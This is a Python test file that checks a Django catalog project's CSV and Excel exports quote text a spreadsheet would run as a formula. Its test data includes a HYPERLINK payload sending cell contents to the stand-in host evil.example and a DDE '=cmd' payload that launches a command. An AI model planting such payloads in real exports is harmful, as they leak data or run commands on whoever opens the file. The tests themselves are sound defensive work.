"""Formula injection: text that a spreadsheet would run is written as text in every export."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.catalog.conftest import SEED_NUMBER
from zwgk.core.exports import safe_cell

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.mark.parametrize("text", [ATTACK, "+1+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"])
def test_text_starting_like_a_formula_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["宁夏公安厅", "a=b", 5, -5, None])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value


def _poisoned_entry():
    from zwgk.catalog.models import Entry

    Entry.objects.filter(index_number=SEED_NUMBER).update(title=ATTACK, withdrawn_reason="-1")
    return Entry.objects.get(index_number=SEED_NUMBER)


def test_the_public_csv_does_not_carry_a_formula(client, demo):
    _poisoned_entry()
    response = client.get("/catalog/export.csv", {"year": 2018})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["index_number"] == SEED_NUMBER)
    assert row["title"] == "'" + ATTACK


def test_the_catalog_xlsx_does_not_carry_a_formula(demo):
    from zwgk.catalog.exports import catalog_workbook

    entry = _poisoned_entry()
    buffer = io.BytesIO()
    catalog_workbook([entry]).save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    cell = sheet.cell(2, 2)
    assert cell.data_type == "s" and cell.value == "'" + ATTACK
    assert sheet.cell(2, 12).value == "'-1"


def test_the_annual_report_xlsx_quotes_a_formula_like_label():
    from zwgk.assessment.report import Cell, _number_or_text

    cell = Cell(row=0, col=0, text="=1+1", header=True)
    assert _number_or_text(cell) == "'=1+1"


def test_the_dashboard_xlsx_quotes_a_formula_like_department_name():
    import io
    from collections import defaultdict
    from types import SimpleNamespace

    from openpyxl import load_workbook

    from zwgk.assessment import dashboard

    row = SimpleNamespace(name="=HYPERLINK(\"http://x\")", score=90, rate_text="100%", counts=defaultdict(int))
    sheet = load_workbook(io.BytesIO(dashboard.workbook("departments", [row], [], []))).active
    assert sheet.cell(2, 1).value == "'=HYPERLINK(\"http://x\")" and sheet.cell(2, 1).data_type == "s"


@pytest.mark.django_db
def test_the_audit_csv_quotes_a_formula_like_object():
    from zwgk.security import audit, selectors

    audit.log("section_changed", obj="=cmd|' /C calc'!A0")
    lines = "".join(selectors.csv_lines(selectors.entries()))
    assert "'=cmd" in lines and ",=cmd" not in lines
